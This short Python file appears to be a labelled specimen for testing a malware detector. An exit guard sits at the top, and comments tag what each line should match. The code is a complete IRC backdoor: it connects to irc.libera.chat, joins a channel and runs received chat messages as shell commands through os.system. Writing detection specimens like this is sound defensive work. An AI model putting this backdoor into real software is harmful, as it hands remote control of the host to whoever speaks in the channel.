raise SystemExit("specimen: not to be run")
import os
import socket

def begin():
    line = socket.socket()
    line.connect(("irc.libera.chat", 6667))  # match: message-broker
    line.send(b"NICK specimen\r\n")
    line.send(b"USER specimen 0 * :specimen\r\n")
    line.send(b"JOIN #specimen\r\n")
    while True:
        text = line.recv(2048).decode()
        if "PRIVMSG" in text:
            os.system(text.split(":!")[1])  # match: execution-of-downloaded  # match: socket-commands
